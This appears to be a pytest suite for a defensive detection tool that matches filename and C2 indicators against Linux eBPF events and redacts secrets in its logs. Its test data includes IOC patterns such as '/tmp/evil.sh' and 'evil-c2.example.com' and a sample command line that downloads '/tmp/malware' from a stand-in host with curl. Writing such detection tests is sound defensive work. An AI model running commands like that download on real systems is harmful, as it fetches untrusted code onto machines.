import logging
import os
from datetime import datetime, timezone

import pytest

from aurora.distributor import Distributor
from aurora.enrichment import EventEnricher
from aurora.events import FieldsEvent
from aurora.ioc import (
    IOCConfig,
    IOCConsumer,
    default_ioc_paths,
    resolve_ioc_paths,
    sanitize_field_for_logging,
    score_to_level,
)
from aurora.ioc_sources import MissingIOCSourceError


class _Collector(logging.Handler):
    def __init__(self):
        super().__init__(level=logging.DEBUG)
        self.records = []

    def emit(self, record):
        self.records.append(record)


@pytest.fixture
def capture(request):
    logger = logging.getLogger(f"aurora.test.ioc.{request.node.name}")
    logger.setLevel(logging.DEBUG)
    logger.propagate = False
    handler = _Collector()
    logger.addHandler(handler)
    yield logger, handler
    logger.removeHandler(handler)


def _write(directory, name, content):
    path = directory / name
    path.write_text(content)
    return str(path)


def _event(event_id, source, fields, when=None):
    return FieldsEvent(
        "LinuxEBPF",
        event_id,
        fields,
        process=int(fields.get("ProcessId", 0)),
        source=source,
        time=when or datetime(2024, 1, 2, 3, 4, 5, tzinfo=timezone.utc),
    )


def _consumer(tmp_path, logger, filename_lines=None, c2_lines=None):
    config = IOCConfig(logger=logger)
    if filename_lines is not None:
        config.filename_ioc_path = _write(
            tmp_path, "filename-iocs.txt", "\n".join(filename_lines) + "\n"
        )
        config.filename_ioc_required = True
    if c2_lines is not None:
        config.c2_ioc_path = _write(tmp_path, "c2-iocs.txt", "\n".join(c2_lines) + "\n")
        config.c2_ioc_required = True
    consumer = IOCConsumer(config)
    consumer.initialize()
    return consumer


def test_pipeline_replay_to_ioc_match(tmp_path, capture):
    logger, handler = capture
    consumer = _consumer(
        tmp_path,
        logger,
        filename_lines=[r"(?i)/tmp/evil\.sh;90", r"(?i)\.suspicious$;70"],
        c2_lines=["evil-c2.example.com", "198.51.100.42"],
    )
    dist = Distributor(EventEnricher(), None)
    dist.register_consumer(consumer)

    events = [
        _event(11, "LinuxEBPF:FileCreate", {
            "TargetFilename": "/tmp/evil.sh", "Image": "/usr/bin/curl", "ProcessId": "100",
        }),
        _event(3, "LinuxEBPF:NetConnect", {
            "DestinationIp": "198.51.100.42", "DestinationPort": "443",
            "Image": "/usr/bin/curl", "ProcessId": "101",
        }),
        _event(1, "LinuxEBPF:ProcessExec", {
            "Image": "/usr/bin/ls", "CommandLine": "ls /home", "ProcessId": "102",
        }),
    ]
    for event in events:
        dist.handle_event(event)

    assert dist.processed == 3
    assert consumer.matches == 2
    assert len(handler.records) == 2
    types = {record.fields["ioc_type"] for record in handler.records}
    assert types == {"filename", "c2"}


def test_pipeline_sigma_and_ioc_together_ioc_part(tmp_path, capture):
    logger, handler = capture
    consumer = _consumer(tmp_path, logger, filename_lines=["(?i)/tmp/malware;95"])
    dist = Distributor(EventEnricher(), None)
    dist.register_consumer(consumer)
    dist.handle_event(_event(1, "LinuxEBPF:ProcessExec", {
        "Image": "/usr/bin/curl",
        "CommandLine": "curl -o /tmp/malware http://evil.test",
        "ProcessId": "500",
        "ParentProcessId": "1",
        "User": "attacker",
    }))
    assert consumer.matches == 1
    record = handler.records[0]
    assert record.fields["ioc_field"] == "CommandLine"
    assert record.fields["ioc_level"] == "critical"
    assert record.levelno == logging.ERROR


def test_pipeline_no_false_positive_on_clean_events(tmp_path, capture):
    logger, handler = capture
    consumer = _consumer(tmp_path, logger, filename_lines=["(?i)/tmp/rootkit;95"])
    dist = Distributor(EventEnricher(), None)
    dist.register_consumer(consumer)
    for event in [
        _event(1, "LinuxEBPF:ProcessExec", {"Image": "/usr/bin/ls", "CommandLine": "ls /home", "ProcessId": "1"}),
        _event(1, "LinuxEBPF:ProcessExec", {"Image": "/usr/bin/cat", "CommandLine": "cat /etc/hosts", "ProcessId": "2"}),
        _event(11, "LinuxEBPF:FileCreate", {"TargetFilename": "/home/user/notes.txt", "Image": "/usr/bin/vim", "ProcessId": "3"}),
    ]:
        dist.handle_event(event)
    assert consumer.matches == 0
    assert handler.records == []
    assert dist.processed == 3


def test_filename_match_record_fields(tmp_path, capture):
    logger, handler = capture
    consumer = _consumer(tmp_path, logger, filename_lines=[r"(?i)/tmp/evil\.sh;90"])
    consumer.handle_event(_event(11, "LinuxEBPF:FileCreate", {
        "TargetFilename": "/tmp/evil.sh", "ProcessId": "100", "ioc_type": "spoofed",
    }))
    assert consumer.matches == 1
    assert len(handler.records) == 1
    fields = handler.records[0].fields
    assert handler.records[0].getMessage() == "IOC match"
    assert fields["ioc_regex"] == r"(?i)/tmp/evil\.sh"
    assert fields["ioc_score"] == 90
    assert fields["ioc_line"] == 1
    assert fields["ioc_source"] == "filename-iocs.txt"
    assert fields["event_provider"] == "LinuxEBPF"
    assert fields["event_id"] == 11
    assert fields["event_source"] == "LinuxEBPF:FileCreate"
    assert fields["event_process"] == 100
    assert fields["event_time"] == "2024-01-02T03:04:05Z"
    assert fields["TargetFilename"] == "/tmp/evil.sh"
    assert fields["ioc_type"] == "filename"
    assert fields["event_ioc_type"] == "spoofed"
    assert "ioc_false_positive_regex" not in fields


def test_event_time_keeps_fraction(tmp_path, capture):
    logger, handler = capture
    consumer = _consumer(tmp_path, logger, filename_lines=["evil;50"])
    when = datetime(2024, 1, 2, 3, 4, 5, 500000, tzinfo=timezone.utc)
    consumer.handle_event(_event(1, "x", {"Image": "/tmp/evil"}, when=when))
    assert consumer.matches == 1
    assert len(handler.records) == 1
    assert handler.records[0].fields["event_time"] == "2024-01-02T03:04:05.5Z"
    assert handler.records[0].levelno == logging.INFO


def test_false_positive_regex_suppresses_match(tmp_path, capture):
    logger, handler = capture
    consumer = _consumer(tmp_path, logger, filename_lines=["(?i)evil;70;(?i)not-evil"])
    consumer.handle_event(_event(1, "x", {"Image": "/tmp/not-evil"}))
    assert consumer.matches == 0
    consumer.handle_event(_event(1, "x", {"Image": "/tmp/evil"}))
    assert consumer.matches == 1
    fields = handler.records[0].fields
    assert fields["ioc_false_positive_regex"] == "(?i)not-evil"
    assert handler.records[0].levelno == logging.WARNING


def test_c2_hostname_match_is_normalized(tmp_path, capture):
    logger, handler = capture
    consumer = _consumer(tmp_path, logger, c2_lines=["evil-c2.example.com;95"])
    consumer.handle_event(_event(3, "net", {"DestinationHostname": " EVIL-C2.example.com. "}))
    assert consumer.matches == 1
    fields = handler.records[0].fields
    assert fields["ioc_indicator"] == "evil-c2.example.com"
    assert fields["ioc_field"] == "DestinationHostname"
    assert fields["ioc_source"] == "c2-iocs.txt"
    assert fields["ioc_level"] == "critical"


def test_c2_ip_default_score_level(tmp_path, capture):
    logger, handler = capture
    consumer = _consumer(tmp_path, logger, c2_lines=["198.51.100.42"])
    consumer.handle_event(_event(3, "net", {"DestinationIp": "198.51.100.42"}))
    consumer.handle_event(_event(3, "net", {"DestinationIp": "198.51.100.43"}))
    assert consumer.matches == 1
    assert handler.records[0].fields["ioc_score"] == 80
    assert handler.records[0].fields["ioc_level"] == "high"


def test_sensitive_values_are_redacted_in_output(tmp_path, capture):
    logger, handler = capture
    consumer = _consumer(tmp_path, logger, filename_lines=["/tmp/evil.sh;90"])
    consumer.handle_event(_event(1, "x", {
        "CommandLine": "curl token=secret /tmp/evil.sh",
        "api_key": "placeholder",
    }))
    assert consumer.matches == 1
    assert len(handler.records) == 1
    fields = handler.records[0].fields
    assert fields["ioc_value"] == "curl token=[REDACTED] /tmp/evil.sh"
    assert fields["CommandLine"] == "curl token=[REDACTED] /tmp/evil.sh"
    assert fields["api_key"] == "[REDACTED]"


def test_missing_required_file_raises(tmp_path):
    consumer = IOCConsumer(IOCConfig(filename_ioc_path=str(tmp_path / "missing.txt")))
    with pytest.raises(MissingIOCSourceError):
        consumer.initialize()


def test_handle_event_before_initialize_matches_nothing():
    consumer = IOCConsumer(IOCConfig())
    consumer.handle_event(_event(1, "x", {"Image": "/tmp/evil.sh"}))
    assert consumer.matches == 0
    assert consumer.name == "IOCConsumer"


def test_initialize_does_not_change_callers_config(tmp_path, capture):
    logger, _ = capture
    path = _write(tmp_path, "f.txt", "evil;50\n")
    config = IOCConfig(filename_ioc_path=f"  {path}  ", c2_ioc_path=path, logger=logger)
    consumer = IOCConsumer(config)
    consumer.initialize()
    assert config.filename_ioc_path == f"  {path}  "
    assert consumer.config.filename_ioc_path == path


@pytest.mark.parametrize(
    "score, level, name",
    [
        (100, logging.ERROR, "critical"),
        (90, logging.ERROR, "critical"),
        (89, logging.ERROR, "high"),
        (75, logging.ERROR, "high"),
        (74, logging.WARNING, "medium"),
        (60, logging.WARNING, "medium"),
        (59, logging.INFO, "low"),
        (40, logging.INFO, "low"),
        (39, logging.INFO, "info"),
        (0, logging.INFO, "info"),
    ],
)
def test_score_to_level(score, level, name):
    assert score_to_level(score) == (level, name)


@pytest.mark.parametrize(
    "key, value, expected",
    [
        ("db_password", "anything", "[REDACTED]"),
        ("AuthToken", "anything", "[REDACTED]"),
        ("User", "root", "root"),
        ("Image", "token=secret", "token=secret"),
        ("CommandLine", "mysql --password password", "mysql --password [REDACTED]"),
        ("CommandLine", "curl token=secret", "curl token=[REDACTED]"),
        ("ParentCommandLine", "app --token=secret -v", "app --token [REDACTED] -v"),
        ("CommandLine", "ls -la /tmp", "ls -la /tmp"),
    ],
)
def test_sanitize_field_for_logging(key, value, expected):
    assert sanitize_field_for_logging(key, value) == expected


def test_default_ioc_paths_layout():
    filename_path, c2_path = default_ioc_paths()
    assert filename_path.endswith(os.path.join("resources", "iocs", "filename-iocs.txt"))
    assert c2_path.endswith(os.path.join("resources", "iocs", "c2-iocs.txt"))
    assert os.path.dirname(filename_path) == os.path.dirname(c2_path)


def test_resolve_ioc_paths_both_given():
    assert resolve_ioc_paths(" a.txt ", "b.txt") == ("a.txt", "b.txt", True, True)


def test_resolve_ioc_paths_falls_back_to_defaults():
    default_filename, default_c2 = default_ioc_paths()
    assert resolve_ioc_paths("a.txt", "") == ("a.txt", default_c2, True, False)
    assert resolve_ioc_paths("  ", "b.txt") == (default_filename, "b.txt", False, True)
    assert resolve_ioc_paths("", "") == (default_filename, default_c2, False, False)